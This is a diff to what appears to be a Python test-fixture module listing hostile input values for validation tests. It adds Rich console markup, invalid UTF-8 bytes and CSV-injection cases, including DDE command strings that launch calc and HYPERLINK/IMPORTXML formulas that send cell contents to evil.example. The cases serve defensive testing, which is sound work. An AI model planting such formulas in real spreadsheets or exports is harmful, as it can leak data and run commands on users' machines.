@@ -19,8 +19,10 @@ SHELL, NEWLINE_NUL, NGINX, YAML, JINJA, SQL = "shell", "newline/NUL", "nginx", "
 TRAVERSAL, OVERLONG, LOOKALIKE, INVISIBLE, IDNA = "traversal", "over-long", "look-alike", "invisible", "invalid IDNA"
 WRONG_TYPE, HUGE, FORMAT = "wrong type", "huge file", "format"
 JINJA_TEXT = "Jinja in free text"  # issue 13: text fields that reach Ansible
+# Issue 13: text a terminal, a spreadsheet or a decoder would act on, and files planted.
+RICH, CSV_FORMULA, BAD_UTF8, PLANTED = "Rich markup", "CSV formula", "invalid UTF-8", "planted config"
 CATEGORIES = (SHELL, NEWLINE_NUL, NGINX, YAML, JINJA, SQL, TRAVERSAL, OVERLONG, LOOKALIKE, INVISIBLE, IDNA,
-              WRONG_TYPE, HUGE, JINJA_TEXT)
+              WRONG_TYPE, HUGE, JINJA_TEXT, RICH, CSV_FORMULA, BAD_UTF8, PLANTED)
 SURFACES = ("argument", "spec", "config", "attachment")
 
 Case = tuple[str, Any]
@@ -71,6 +73,18 @@ BAD_TEXT: list[Case] = [
     (INVISIBLE, "a\x1b[31mb"), (INVISIBLE, "a\u200bb"), (INVISIBLE, "a\u202eb"), (INVISIBLE, "a\u2028b"),
     (OVERLONG, "x" * 5000),
 ]
+
+#: Rich console markup: shown as written, never interpreted (a link, a style, an emoji code).
+RICH_VALUES: list[Case] = [(RICH, v) for v in (
+    "[link=https://evil.example/]klik di sini[/link]", "[bold red]PERINGATAN[/]", "[/]", "[blink]x[/blink]",
+    ":skull: :warning:", "[reverse on white]x", "\\[bold]x")]
+#: What a spreadsheet would run (OWASP "CSV injection"): stored as text, exported with a leading '.
+CSV_VALUES: list[Case] = [(CSV_FORMULA, v) for v in (
+    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")")]
+#: Bytes that are not UTF-8, as Python hands them over (lone surrogates, surrogateescape).
+UTF8_VALUES: list[Case] = [(BAD_UTF8, b.decode("utf-8", "surrogateescape")) for b in (
+    b"caf\xe9", b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"abc\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"x\x80")]
 
 _registry: dict[str, list[Case]] = {}
 
